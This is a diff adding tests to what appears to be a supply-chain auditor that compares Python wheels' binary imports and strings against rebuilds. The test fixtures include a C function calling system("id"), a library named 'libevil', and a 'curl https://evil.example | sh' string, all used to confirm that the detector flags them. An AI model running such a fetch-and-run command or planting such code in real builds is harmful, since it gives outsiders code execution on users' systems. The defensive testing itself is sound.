@@ -194,3 +194,73 @@ def test_a_grafted_library_no_module_needs_is_a_difference(tmp_path):
     extra = honest[:-1] + [("pkg.libs/libevil-0badc0de.so.1", lib, 0o755), honest[-1]]
     cmp = compare_wheels(wheel(tmp_path / "e.whl", members=extra), reb, binary=True)
     assert [d.path for d in cmp.differences if d.path.startswith("pkg.libs/")] == ["pkg.libs/libevil-0badc0de.so.1"]
+
+
+def shared_lib(tmp_path: Path, soname: str, source: str, *flags: str) -> Path:
+    c = tmp_path / f"{soname}.c"
+    c.write_text(source)
+    out = tmp_path / soname
+    subprocess.run(["gcc", "-shared", "-fPIC", f"-Wl,-soname,{soname}", str(c), "-o", str(out), *flags], check=True)
+    return out
+
+
+@needs_gcc
+def test_imports_a_grafted_library_exports_are_named_by_whether_the_rebuild_links_it(tmp_path):
+    """shapely 2.1.2: built against a newer GEOS (grafted) than the image's, it calls functions Debian's lacks:
+    each exported by the wheel's copy, accepted. pillow 12.1.0: built with libtiff, which the image lacks: its
+    imports are the grafted copy's, its other added imports (lseek64) come from the code libtiff switches on:
+    partly checked; a capability (system) is still a difference."""
+    (tmp_path / "old").mkdir(), (tmp_path / "new").mkdir()
+    shared_lib(tmp_path / "old", "libfoo.so.1", LIB)
+    new = shared_lib(tmp_path / "new", "libfoo-1a2b3c4d.so.1", LIB + "int foo_more(void) { return 3; }\n")
+    (tmp_path / "new" / "libfoo.so").symlink_to(new)
+    (tmp_path / "old" / "libfoo.so").symlink_to(tmp_path / "old" / "libfoo.so.1")
+    more = USES_LIB + "int foo_more(void);\nint more(void) { return foo_more(); }\n"
+    reb = read_interface(build(tmp_path, "reb", USES_LIB, f"-L{tmp_path / 'old'}", "-lfoo"))
+    pub = read_interface(build(tmp_path, "pub", more, f"-L{tmp_path / 'new'}", "-lfoo"))
+    grafted = {"libfoo-1a2b3c4d.so.1": read_interface(new.read_bytes())}
+    check = compare(pub, reb, {"pkg.libs/libfoo-1a2b3c4d.so.1"}, None, grafted)
+    assert check.adds == [] and "grafted-library-version" in check.rules and not check.unverified, check
+    assert compare(pub, reb, {"pkg.libs/libfoo-1a2b3c4d.so.1"}).adds == ["imports foo_more"]  # no copy at hand
+
+    tiff = shared_lib(tmp_path, "libtiff-0badc0de.so.6", "int TIFFOpen(void) { return 1; }\n")
+    (tmp_path / "libtiff.so").symlink_to(tiff)
+    feature = BASE + "#include <unistd.h>\nint TIFFOpen(void);\nlong tiff(int fd) { return TIFFOpen() + lseek(fd, 0, 0); }\n"
+    base = read_interface(build(tmp_path, "base", BASE))
+    with_tiff = read_interface(build(tmp_path, "tiff", feature, f"-L{tmp_path}", "-ltiff"))
+    libs = {"libtiff-0badc0de.so.6": read_interface(tiff.read_bytes())}
+    check = compare(with_tiff, base, {"PIL.libs/libtiff-0badc0de.so.6"}, None, libs)
+    assert check.adds == [] and "optional-library" in check.rules and check.unverified, check
+    assert any("lseek" in n for n in check.notes), check.notes
+    evil = read_interface(build(tmp_path, "evil", feature + "#include <stdlib.h>\nint pwn(void) { return system(\"id\"); }\n",
+                                f"-L{tmp_path}", "-ltiff"))
+    assert compare(evil, base, {"PIL.libs/libtiff-0badc0de.so.6"}, None, libs).adds == ["imports system@GLIBC_2.2.5"]
+
+
+@needs_gcc
+def test_a_static_build_is_held_to_the_whole_chain_of_libraries(tmp_path):
+    """xmlsec 1.3.14 links libxmlsec1, libxml2, libxslt and OpenSSL's libcrypto in; the rebuild links
+    libxmlsec1-openssl.so.1, which links libcrypto.so.3: what libcrypto imports (mprotect) is explained by
+    it, read from the image; without it, that capability is a difference."""
+    crypto_src = "#include <sys/mman.h>\nint bar_lock(void *p) { return mprotect(p, 4096, PROT_READ); }\n"
+    crypto = shared_lib(tmp_path, "libbar.so.3", crypto_src)
+    (tmp_path / "libbar.so").symlink_to(crypto)
+    lib_src = LIB + "int bar_lock(void *);\nint foo_lock(void *p) { return bar_lock(p); }\n"
+    foo = shared_lib(tmp_path, "libfoo.so.1", lib_src, f"-L{tmp_path}", "-lbar")
+    (tmp_path / "libfoo.so").symlink_to(foo)
+    reb = read_interface(build(tmp_path, "reb", USES_LIB, f"-L{tmp_path}", "-lfoo"))
+    pub = read_interface(build(tmp_path, "pub", USES_LIB + lib_src + crypto_src))
+    libraries = {"libfoo.so.1": read_interface(foo.read_bytes()), "libbar.so.3": read_interface(crypto.read_bytes())}
+    check = compare(pub, reb, set(), libraries)
+    assert check.adds == [] and "static-library" in check.rules, check
+    only_first = compare(pub, reb, set(), {"libfoo.so.1": libraries["libfoo.so.1"]})
+    assert only_first.adds == ["imports mprotect, which neither the rebuild nor libfoo.so.1 imports"], only_first.adds
+
+
+def test_a_string_joined_by_a_neighbouring_printable_byte_is_the_same_string():
+    from auditor.judge.interface import _joined
+    known = frozenset({b"{http://exslt.org/dates-and-times}date: invalid date or format %s"})
+    assert _joined(b"@{http://exslt.org/dates-and-times}date: invalid date or format %s", known)
+    assert _joined(b"{http://exslt.org/dates-and-times}date: invalid date or format %sAB", known)
+    assert not _joined(b"{http://evil.example/x}date: invalid date or format %s", known)
+    assert not _joined(b"curl https://evil.example | sh; {http://exslt.org/dates-and-times}date", known)
